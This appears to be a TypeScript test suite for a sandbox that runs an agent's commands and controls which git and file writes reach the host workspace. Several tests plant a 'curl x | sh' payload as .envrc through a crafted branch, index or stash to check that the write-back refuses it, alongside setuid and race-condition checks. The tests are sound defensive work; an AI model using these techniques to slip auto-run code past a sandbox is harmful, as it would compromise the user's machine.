/**
 * The jail and git: commands in the workspace's repository, and which of git's writes come back
 * (objects, references, reflogs) and which never do.
 */
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { existsSync, readFileSync } from 'node:fs'
import fs from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { describe, it } from 'node:test'
import { GIT_TEST_ENV } from '../../test/helpers/git-repository.ts'
import { jailFixture } from './test-jail.ts'

const bash = (script: string): string[] => ['/bin/bash', '-c', script]

describe('Jail and git', () => {
  it('runs git in the workspace with a default identity', async (t) => {
    const { jail, workspace } = await jailFixture(t, { 'a.txt': 'a\n' })
    const { execFileSync } = await import('node:child_process')
    execFileSync('git', ['init', '-q', workspace])
    const result = await jail.run({
      command: bash('git add a.txt && git commit -qm first && git log --format="%an <%ae> %s"'),
      access: 'workspace-write',
    })
    assert.equal(result.stdout, 'eitri agent <agent@eitri.invalid> first\n', result.stderr)
    const log = execFileSync('git', ['-C', workspace, 'log', '--format=%s'], { encoding: 'utf8' })
    assert.equal(log, 'first\n', 'the commit reached the workspace')
  })

  it('a repository made where there was none works in the jail and is never written back', async (t) => {
    const { jail, workspace } = await jailFixture(t, { 'a.txt': 'a\n' })
    const result = await jail.run({
      command: bash(
        'git init -q && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x; echo $?',
      ),
      access: 'workspace-write',
    })
    assert.equal(result.stdout.trim(), '0')
    assert.deepEqual(
      result.sync?.kept.map((kept) => kept.path),
      ['.git'],
    )
    assert.deepEqual(result.sync?.refused, [])
    await assert.rejects(fs.access(path.join(workspace, '.git')))
    // Reported once, by the command that made it, never as a failure; still there for the
    // next command, which does not repeat it.
    const again = await jail.run({
      command: bash('git log --format=%s'),
      access: 'workspace-write',
    })
    assert.equal(again.stdout.trim(), 'x')
    assert.deepEqual(again.sync?.kept ?? [], [])
    await assert.rejects(fs.access(path.join(workspace, '.git')))
    // Once the person makes a repository there, the jail sees theirs, not the one it kept.
    execFileSync('git', ['init', '-q'], { cwd: workspace, env: GIT_TEST_ENV })
    const theirs = await jail.run({
      command: bash('git log --format=%s 2>&1 | head -1'),
      access: 'workspace-write',
    })
    assert.match(theirs.stdout, /does not have any commits|bad default revision/, theirs.stdout)
  })

  it('brings a sparse file back sparse, and refuses one over the bound by apparent size, reading none of it', async (t) => {
    const { jail, workspace } = await jailFixture(
      t,
      {},
      {
        writeBack: { maxFileBytes: 48 * 1024 * 1024, maxTotalBytes: 64 * 1024 * 1024 },
      },
    )
    const result = await jail.run({
      command: bash(
        'truncate -s 40M sparse && printf end >> sparse && head -c 2M /dev/urandom > dense && truncate -s 1G huge && truncate -s 30M z-second',
      ),
      access: 'workspace-write',
    })
    assert.equal(result.exitCode, 0, result.stderr)
    const sparse = await fs.stat(path.join(workspace, 'sparse'))
    assert.equal(sparse.size, 40 * 1024 * 1024 + 3)
    // Holes stay holes: a few blocks on disk, not 40 MiB (the dense control has all of its own).
    assert.ok(sparse.blocks * 512 < 2 * 1024 * 1024, `sparse uses ${sparse.blocks * 512} bytes`)
    const dense = await fs.stat(path.join(workspace, 'dense'))
    assert.ok(dense.blocks * 512 >= 2 * 1024 * 1024)
    const tail = Buffer.alloc(3)
    const handle = await fs.open(path.join(workspace, 'sparse'))
    await handle.read(tail, 0, 3, 40 * 1024 * 1024)
    await handle.close()
    assert.equal(tail.toString(), 'end')
    await assert.rejects(fs.access(path.join(workspace, 'huge')))
    await assert.rejects(fs.access(path.join(workspace, 'z-second')))
    const refused = new Map(result.sync?.refused.map((entry) => [entry.path, entry.reason]))
    assert.match(refused.get('huge') ?? '', /1\.0 GiB \(apparent size\), over the 48 MiB/)
    assert.match(refused.get('z-second') ?? '', /pass 64 MiB together/)
  })

  it('never brings back setuid, setgid or sticky bits', async (t) => {
    const { jail, workspace } = await jailFixture(t)
    const result = await jail.run({
      command: bash('cp /usr/bin/id u && chmod 6755 u && touch s && chmod 1644 s && ls -l u s'),
      access: 'workspace-write',
    })
    assert.equal(result.exitCode, 0, result.stderr)
    assert.match(result.stdout, /rwsr-sr-x/)
    assert.equal((await fs.stat(path.join(workspace, 'u'))).mode & 0o7777, 0o755)
    assert.equal((await fs.stat(path.join(workspace, 's'))).mode & 0o7777, 0o644)
  })

  it('brings git commits back: new objects, moved refs and grown reflogs; refuses lost ones', async (t) => {
    const { jail, workspace } = await jailFixture(t, { 'a.txt': 'a\n' })
    const git = (script: string) =>
      jail.run({
        command: bash(`git -c user.name=a -c user.email=a@b ${script}`),
        access: 'workspace-write',
      })
    // The repository is the host's: made outside the jail.
    const { execFileSync } = await import('node:child_process')
    execFileSync('git', ['init', '-q', '-b', 'main'], { cwd: workspace })
    execFileSync(
      'git',
      ['-c', 'user.name=p', '-c', 'user.email=p@e', 'commit', '-q', '--allow-empty', '-m', 'first'],
      { cwd: workspace },
    )
    execFileSync('git', ['branch', 'keep'], { cwd: workspace })
    const committed = await git(
      'add a.txt && git -c user.name=a -c user.email=a@b commit -q -m second && git branch extra',
    )
    assert.equal(committed.exitCode, 0, committed.stderr)
    assert.deepEqual(committed.sync?.refused, [])
    const log = execFileSync('git', ['log', '--format=%s', 'extra'], { cwd: workspace }).toString()
    assert.equal(log, 'second\nfirst\n')
    const removed = await git('branch -D keep && git reflog expire --expire=now --all')
    assert.equal(removed.exitCode, 0, removed.stderr)
    const refusedPaths = (removed.sync?.refused ?? []).map((entry) => entry.path)
    assert.ok(refusedPaths.includes('.git/refs/heads/keep'), refusedPaths.join(', '))
    assert.ok(refusedPaths.includes('.git/logs/HEAD'), refusedPaths.join(', '))
    assert.equal(
      execFileSync('git', ['rev-parse', '--verify', '-q', 'keep'], { cwd: workspace }).toString()
        .length,
      41,
    )
  })

  it('never brings back a ref to a commit whose checkout writes a protected file; an ordinary branch comes back', async (t) => {
    const { jail, workspace } = await jailFixture(t, { 'a.txt': 'a\n' })
    const git = (...args: string[]) =>
      execFileSync('git', args, { cwd: workspace, env: GIT_TEST_ENV }).toString().trim()
    git('init', '-q', '-b', 'main')
    git('add', 'a.txt')
    git('commit', '-q', '-m', 'first')
    const first = git('rev-parse', 'HEAD')
    const inJail = (script: string) =>
      jail.run({
        command: bash(
          `export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b; ${script}`,
        ),
        access: 'workspace-write',
      })
    const evil = await inJail(
      // .envrc is read-only in the jail: the commit is made from the object store alone.
      'git checkout -q -b evil && blob=$(echo "curl x | sh" | git hash-object -w --stdin) && git update-index --add --cacheinfo "100644,$blob,.envrc" && git commit -q -m evil && git checkout -q -f main',
    )
    assert.equal(evil.exitCode, 0, evil.stderr)
    const refused = new Map((evil.sync?.refused ?? []).map((entry) => [entry.path, entry.reason]))
    assert.match(refused.get('.git/refs/heads/evil') ?? '', /checking that out writes \.envrc/)
    assert.equal(git('for-each-ref', '--format=%(refname)'), 'refs/heads/main')
    assert.equal(git('rev-parse', 'HEAD'), first)
    // Positive control: a branch of ordinary files, checked out in the jail, comes back.
    const ordinary = await inJail(
      'git checkout -q -b feature && echo b > b.txt && git add b.txt && git commit -q -m feature',
    )
    assert.deepEqual(ordinary.sync?.refused, [])
    assert.equal(git('symbolic-ref', 'HEAD'), 'refs/heads/feature')
    assert.equal(git('log', '--format=%s', 'feature'), 'feature\nfirst')
    assert.equal(git('status', '--porcelain'), '')
  })

  for (const layers of ['overlay', 'mirror'] as const) {
    it(`never brings back an index or a stash that would write a protected file on the host; ordinary staging comes back (${layers})`, async (t) => {
      const { jail, workspace } = await jailFixture(t, { 'a.txt': 'a\n' }, { layers })
      const git = (...args: string[]) =>
        execFileSync('git', args, { cwd: workspace, env: GIT_TEST_ENV }).toString().trim()
      const plain = (script: string) =>
        execFileSync('/bin/bash', ['-c', script], { cwd: workspace, env: GIT_TEST_ENV })
      git('init', '-q', '-b', 'main')
      git('add', 'a.txt')
      git('commit', '-q', '-m', 'first')
      const inJail = (script: string) =>
        jail.run({
          command: bash(
            `export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b; ${script}`,
          ),
          access: 'workspace-write',
        })
      // .envrc is read-only in the jail: both are made from the object store alone.
      const blob = 'blob=$(echo "curl x | sh" | git hash-object -w --stdin)'
      const stageEnvrc = `${blob} && git update-index --add --cacheinfo "100644,$blob,.envrc"`
      const stashEnvrc = [
        blob,
        'u=$(git commit-tree $(printf "100644 blob $blob\\t.envrc\\n" | git mktree) -m untracked)',
        'i=$(git commit-tree $(git write-tree) -p HEAD -m index)',
        'w=$(git commit-tree $(git write-tree) -p HEAD -p $i -p $u -m WIP)',
        'git stash store -m WIP $w',
      ].join(' && ')
      const staged = await inJail(stageEnvrc)
      assert.equal(staged.exitCode, 0, staged.stderr)
      const refused = new Map(
        (staged.sync?.refused ?? []).map((entry) => [entry.path, entry.reason]),
      )
      assert.match(refused.get('.git/index') ?? '', /it stages \.envrc, which `git checkout \.`/)
      const stashed = await inJail(stashEnvrc)
      assert.equal(stashed.exitCode, 0, stashed.stderr)
      const stashRefused = (stashed.sync?.refused ?? []).map((entry) => entry.path)
      assert.ok(stashRefused.includes('.git/refs/stash'), stashRefused.join(', '))
      // The person's next git work writes nothing protected.
      plain('git checkout . && git checkout-index -a && (git stash pop -q 2>/dev/null; true)')
      assert.equal(existsSync(path.join(workspace, '.envrc')), false)
      assert.equal(git('status', '--porcelain'), '')
      // Positive control: ordinary staging comes back, and git on the host shows it staged.
      const ordinary = await inJail(
        'mkdir -p src && echo "export {}" > src/x.ts && git add src/x.ts',
      )
      assert.deepEqual(ordinary.sync?.refused, [])
      assert.equal(git('status', '--porcelain'), 'A  src/x.ts')
      // The control: the same index and stash made without the jail write .envrc on the host.
      plain(`${stageEnvrc} && git checkout .envrc`)
      assert.equal(readFileSync(path.join(workspace, '.envrc'), 'utf8'), 'curl x | sh\n')
      plain(`git rm -q --cached .envrc && rm .envrc && ${stashEnvrc} && git stash pop -q`)
      assert.equal(readFileSync(path.join(workspace, '.envrc'), 'utf8'), 'curl x | sh\n')
    })
  }

  it('writes what it judged: a background job flipping a reflog and packed-refs between a good and a bad version never gets the bad one to the host', async (t) => {
    // The mirror lives here, so the test can read the job's file as a second read would.
    const temporaryRoot = await fs.mkdtemp(path.join(os.tmpdir(), 'eitri-race-'))
    await fs.chmod(temporaryRoot, 0o755)
    t.after(() => fs.rm(temporaryRoot, { recursive: true, force: true }))
    const { jail, workspace } = await jailFixture(
      t,
      { 'a.txt': 'a\n' },
      { temporaryRoot, layers: 'mirror' },
    )
    const git = (...args: string[]) =>
      execFileSync('git', args, { cwd: workspace, env: GIT_TEST_ENV }).toString().trim()
    git('init', '-q', '-b', 'main')
    git('add', 'a.txt')
    git('commit', '-q', '-m', 'first')
    git('branch', 'topic')
    git('pack-refs', '--all')
    const head = git('rev-parse', 'HEAD')
    const file = (relative: string) => fs.readFile(path.join(workspace, relative), 'latin1')
    const oldLog = await file('.git/logs/HEAD')
    const oldPacked = await file('.git/packed-refs')
    // Good: the reflog grows by a line, packed-refs gains a tag. Bad: the same lengths of '#'.
    const goodLog = `${oldLog}${head} ${head} person <person@example.org> 1700000000 +0000\tmoved\n`
    const goodPacked = `${oldPacked}${head} refs/tags/v9\n`
    const versions = {
      'good-log': goodLog,
      'bad-log': '#'.repeat(goodLog.length),
      'good-packed': goodPacked,
      'bad-packed': '#'.repeat(goodPacked.length),
    }
    await fs.mkdir(path.join(workspace, 'flip'))
    for (const [name, text] of Object.entries(versions))
      await fs.writeFile(path.join(workspace, 'flip', name), text)
    const job = await jail.start({
      command: bash(
        [
          'for v in good-log bad-log good-packed bad-packed; do IFS= read -r -d "" "${v//-/_}" < flip/$v; done',
          'echo started',
          'while :; do printf %s "$good_log" > .git/logs/HEAD; printf %s "$good_packed" > .git/packed-refs; printf %s "$bad_log" > .git/logs/HEAD; printf %s "$bad_packed" > .git/packed-refs; done',
        ].join('; '),
      ),
      access: 'workspace-write',
    })
    // Stopped even when an assertion fails, or the file never ends.
    t.after(async () => {
      job.process.kill()
      await job.finished
    })
    for (let waited = 0; !job.process.stdout.text().includes('started'); waited += 20) {
      assert.ok(waited < 10_000, 'the background job did not start')
      await new Promise((resolve) => setTimeout(resolve, 20))
    }
    const [mirror = ''] = (await fs.readdir(temporaryRoot)).filter((name) =>
      name.startsWith('eitri-mirror-'),
    )
    const mirrorLog = path.join(temporaryRoot, mirror, '.git/logs/HEAD')
    const onHost: string[] = []
    let refusals = 0
    let secondReadsBad = 0
    for (let iteration = 0; iteration < 40; iteration++) {
      const result = await jail.run({ command: ['/bin/true'], access: 'workspace-write' })
      refusals += result.sync?.refused.length ?? 0
      const log = await file('.git/logs/HEAD')
      const packed = await file('.git/packed-refs')
      if (log !== oldLog && log !== goodLog) onHost.push(`logs/HEAD: ${log.slice(0, 20)}`)
      if (packed !== oldPacked && packed !== goodPacked)
        onHost.push(`packed-refs: ${packed.slice(0, 20)}`)
      // The control: a judge's read then a copy's read of the same file, as before the fix.
      for (let sample = 0; sample < 20; sample++) {
        const judged = await fs.readFile(mirrorLog, 'latin1').catch(() => '')
        await new Promise((resolve) => setImmediate(resolve))
        const copied = await fs.readFile(mirrorLog, 'latin1').catch(() => '')
        if (judged === goodLog && copied === versions['bad-log']) secondReadsBad++
      }
    }
    job.process.kill()
    await job.finished
    const log = await file('.git/logs/HEAD')
    const packed = await file('.git/packed-refs')
    assert.ok(log === oldLog || log === goodLog, log.slice(0, 40))
    assert.ok(packed === oldPacked || packed === goodPacked, packed.slice(0, 40))
    assert.deepEqual(onHost, [])
    // The flips were seen and judged, and a second read would have copied a bad version.
    assert.ok(refusals > 0, 'no write-back saw a bad version')
    assert.ok(
      secondReadsBad > 0,
      'the flip never fell between two reads: the race was not exercised',
    )
    assert.deepEqual(git('for-each-ref', '--format=%(refname)').split('\n').slice(0, 2), [
      'refs/heads/main',
      'refs/heads/topic',
    ])
  })
})
